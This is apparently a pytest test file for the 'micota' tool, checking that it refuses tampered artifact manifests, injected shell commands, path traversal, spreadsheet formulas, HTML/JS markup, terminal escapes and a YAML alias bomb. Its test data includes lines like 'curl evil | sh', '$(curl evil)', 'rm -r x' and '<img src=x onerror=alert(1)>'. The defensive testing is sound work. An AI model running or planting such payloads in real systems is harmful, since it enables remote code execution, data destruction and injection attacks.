"""Manifests that others wrote into a shared folder of artifacts, and names wherever a name is shown or makes a file."""

from __future__ import annotations

import io
import json
from collections.abc import Callable
from dataclasses import fields, replace
from pathlib import Path
from typing import Any

import pytest
from rich.table import Table

from micota import graph
from micota.artifacts.manifest import MANIFEST, read_manifest, sum_of
from micota.artifacts.store import Store
from micota.cli.config_files import check_aliases
from micota.config import Call
from micota.config.fields import declaration
from micota.config.maps import with_entries
from micota.config.method import CompareConfig
from micota.console import open_console, progress_bar
from micota.errors import ArtifactError, ConfigError
from micota.grading.disagreements import Disagreements
from micota.graph.node import AnyNode
from micota.records import Completion, Problem, Verdict
from micota.report.outcomes import read_table
from micota.runtime.plan import pending
from micota.shell import is_own_line, shell_line
from micota.tracking.lineage import artifact_name
from micota.tracking.runs import WandbRun
from micota.visible import inline_code, plain_markdown

KEY = "sk-0123456789abcdef0123"


@pytest.fixture
def node(composed: Callable[..., Any]) -> AnyNode:
    [scores] = graph.scores(composed("evaluate", "experiment=tiny", "bench=[tiny_easy]"), "student").values()
    return scores


@pytest.fixture
def folder(tmp_path: Path, node: AnyNode) -> Path:
    store = Store(tmp_path)
    with store.build(node, 0, command=Call().line("evaluate", ["data='a b'", "x=ü\n"])) as build:
        assert build is not None
        (build.path / "scores.jsonl").write_text("{}\n")
    return store.path(node)


@pytest.mark.parametrize(
    ("fields", "problem"),
    [
        ({"files": {"../secret": {"bytes": 1, "sha256": "0"}}}, r"it lists the file '\.\./secret'"),
        ({"files": {"/etc/passwd": {"bytes": 1, "sha256": "0"}}}, "it lists the file '/etc/passwd'"),
        ({"files": {"a/../../b": {"bytes": 1, "sha256": "0"}}}, "it lists the file"),
        ({"files": {"a": {"bytes": "1", "sha256": "0"}}}, "does not fit its schema"),
        ({"files": {"a": 3}}, "does not fit its schema"),
        ({"inputs": {"model": {"name": "a"}}}, "does not fit its schema"),
        ({"inputs": []}, "does not fit its schema"),
        ({"metrics": {"accuracy": "<script>"}}, "accuracy is '<script>'; accepted: a number"),
        ({"finished_at": "now"}, "does not fit its schema"),
        ({"command": "micota evaluate; curl evil | sh"}, "its command is 'micota evaluate; curl evil | sh'"),
        ({"command": "micota evaluate $(curl evil)"}, "its command is"),
        ({"command": "rm -r x"}, "its command is"),
        ({"command": "micota evaluate\nrm -r x"}, "its command is"),
    ],
)
def test_a_manifest_of_others_leads_nowhere(folder: Path, fields: dict[str, Any], problem: str) -> None:
    content = json.loads((folder / MANIFEST).read_text()) | fields
    (folder / MANIFEST).write_text(json.dumps(content | {"sum": sum_of(content)}))
    with pytest.raises(ArtifactError, match=problem) as refused:
        read_manifest(folder)
    assert "evil" not in str(refused.value).partition("again:")[2]


def test_our_own_commands_are_known(folder: Path) -> None:
    assert read_manifest(folder).command.endswith(r"x=ü\n'")
    for words in (["a b", "it's", "$HOME", "`x`", ";", "é\t\x1b", ""], ["--config-dir", "/a b", "key='x;y'"]):
        assert is_own_line(shell_line(["micota", "train", *words])), words
        assert is_own_line(shell_line(["python", "train.py", *words])), words


def test_names_have_no_markup(monkeypatch: pytest.MonkeyPatch) -> None:
    console = open_console()
    console.file = io.StringIO()
    table = Table("[/x] :smile:", title="[red]t")
    table.add_row("[/b]a[link=http://x]")
    console.print(table)
    console.print("[/y] :bug:")
    printed = console.file.getvalue()
    assert all(part in printed for part in ("[/x] :smile:", "[/b]a[link=http://x]", "[/y] :bug:", "[red]t")), printed
    bar = progress_bar(console)
    task = bar.add_task("grade [/x].jsonl", total=1, note="")
    assert str(bar.columns[0](bar._tasks[task])) == "grade [/x].jsonl"


@pytest.mark.parametrize("name", ["n" * 100, "字" * 90])
def test_a_name_that_no_folder_can_have_is_refused_before_any_work(node: AnyNode, tmp_path: Path, name: str) -> None:
    long = replace(node, name=f"{name}+{name}@{name}")
    with pytest.raises(ConfigError, match=r"bytes for the name of a folder.*; accepted: names that make at most 255"):
        pending(Store(tmp_path), [long])
    assert pending(Store(tmp_path), [replace(node, name="n" * 234)])


def test_the_tracker_takes_every_name(node: AnyNode) -> None:
    named = artifact_name(replace(node, name="字/é@" + "n" * 300))
    assert named.isascii() and len(f"{named}.weights") <= 128 and named.endswith(node.key) and "/" not in named


def test_what_the_tracker_says_has_no_key_and_steers_no_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    run = WandbRun(lambda: None, None, "id")  # type: ignore[arg-type]
    run.lose(RuntimeError(f"http://me:{KEY}@host\n\x1b[2J"))
    printed = capsys.readouterr().err
    assert KEY not in printed and "\x1b" not in printed and "***@host" in printed


def test_a_benchmark_of_another_script_has_its_path() -> None:
    [given] = with_entries(["bench.字.path=x.jsonl"])
    assert given.isascii()


@pytest.mark.parametrize("name", ["=1+1", "+a", "-a", "@a", "a\x1b[2J"])
def test_outcomes_have_names_that_no_spreadsheet_computes(name: str, tmp_path: Path) -> None:
    file = tmp_path / "o.csv"
    file.write_text(f"student,recipe,seed,gain\na,{name},0,0.1\n")
    with pytest.raises(ConfigError, match=r"o.csv:2: recipe=.*; accepted: a name that is not empty, and begins with"):
        read_table(str(file))


def test_texts_of_others_are_no_markdown() -> None:
    assert plain_markdown("a|b <img src=x> [x](javascript:y)\n`c`") == (r"a\|b \<img src=x\> \[x\](javascript:y) \`c\`")
    assert inline_code("a\n`b`\x1b") == r"``a `b`\u001b``"
    row = Completion(
        problem_id="<b>", sample=0, prompt_hash="", completion="x", finish_reason="stop", num_prompt_tokens=1,
        num_tokens=1, seconds=0.0,
    )  # fmt: skip
    disputed = Disagreements({"<b>": Problem(id="<b>", problem="?", answer="1")})
    verdicts = [Verdict(prediction=None, correct=each, reason="says '|<img>'") for each in (True, False)]
    disputed.add([row], [dict(zip("ab", verdicts, strict=True))])
    assert "<b>" not in disputed.page().replace(r"\<b\>", "") and r"\|\<img\>" in disputed.page()


def test_aliases_of_yaml_are_counted(tmp_path: Path) -> None:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 10)}]" for n in range(1, 8)]
    (tmp_path / "bomb.yaml").write_text("\n".join(lines))
    with pytest.raises(ConfigError, match=r"bomb.yaml: its aliases repeat \d+ values; accepted: YAML of at most"):
        check_aliases(str(tmp_path / "bomb.yaml"))
    for content in ("\n".join(lines[:3]), "a: &a [*a]", "a: [", "a: '*b'"):
        (tmp_path / "fine.yaml").write_text(content)
        check_aliases(str(tmp_path / "fine.yaml"))


@pytest.mark.parametrize("name", ["a\nb", "<img src=x onerror=alert(1)>", "", "data", "=1+1"])
def test_an_axis_has_a_name(name: str) -> None:
    accepted = next(declaration(item) for item in fields(CompareConfig) if item.name == "axes")
    assert not accepted.check({name: ["x"]}) and accepted.check({"model@large": ["x"], "student.sft.lora.r": [1, 2]})
